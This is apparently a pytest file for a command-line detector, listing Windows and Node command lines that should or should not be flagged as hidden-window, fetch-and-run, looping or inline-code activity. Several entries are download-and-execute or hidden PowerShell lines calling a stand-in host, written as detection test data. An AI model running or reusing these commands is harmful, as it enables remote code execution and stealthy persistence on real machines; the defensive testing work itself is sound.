"""What a command line says: every way to write it fires, and what only looks alike does not."""

import pytest
from channel_rows import channel, ledger, observed

SAYS = [
    ("hidden window", "powershell -w hidden -f a.ps1"),
    ("hidden window", "powershell \u2013WindowStyle h -f a.ps1"),
    ("hidden window", "conhost.exe --headless powershell -f a.ps1"),
    ("hidden window", 'cmd /c start "" /min powershell -f a.ps1'),
    ("fetch and run", "cmd /c curl -s https://a.example/x | powershell -"),
    ("fetch and run", 'node -e "fetch(u).then(r=>r.text()).then(eval)"'),
    ("fetch and run", 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "'),
    ("fetch and run", r"curl -fsSLo C:\p\x.exe https://a.example/x"),
    ("fetch and run", r'curl https://a.example/x -o "C:\some place\x.exe"'),
    ("loop in command line", "cmd /c for /l %i in () do curl -s https://a.example/x"),
    ("loop in command line", "cmd /c curl -s https://a.example/x & timeout 180"),
    ("loop in command line", "cmd /c curl -s https://a.example/x & ping -n 61 127.0.0.1"),
    ("loop in command line", 'node -e "setTimeout(f,60000)"'),
    ("inline code", 'python -uc "import x"'),
    ("inline code", 'powershell \u2013c "x"'),
    ("routine tool", "npm run build"),
    ("routine tool", r'"C:\Program Files\nodejs\npm.cmd" install'),
    ("routine tool", "bundle exec rake"),
]
LOOKS_LIKE = [
    ("routine tool", r"python.exe C:\Users\ada\AppData\Roaming\npm-helper\agent.py"),
    ("routine tool", r"node C:\app\main.bundle.js"),
    ("loop in command line", "curl --connect-timeout 30 https://a.example/x"),
    ("loop in command line", r"node C:\app\settimeout.js"),
    ("fetch and run", r'curl -o "C:\p\x.zip" https://a.example/x.exe'),
    ("hidden window", r"python C:\start\minute.py"),
]


def fired(name: str, line: str) -> bool:
    return bool(ledger(observed(channel(line=line)))[name]["state"] == "fired")


@pytest.mark.parametrize(("name", "line"), SAYS, ids=[line for _, line in SAYS])
def test_every_way_to_write_it_fires(name: str, line: str) -> None:
    assert fired(name, line)


@pytest.mark.parametrize(("name", "line"), LOOKS_LIKE, ids=[line for _, line in LOOKS_LIKE])
def test_what_only_looks_alike_does_not(name: str, line: str) -> None:
    assert not fired(name, line)
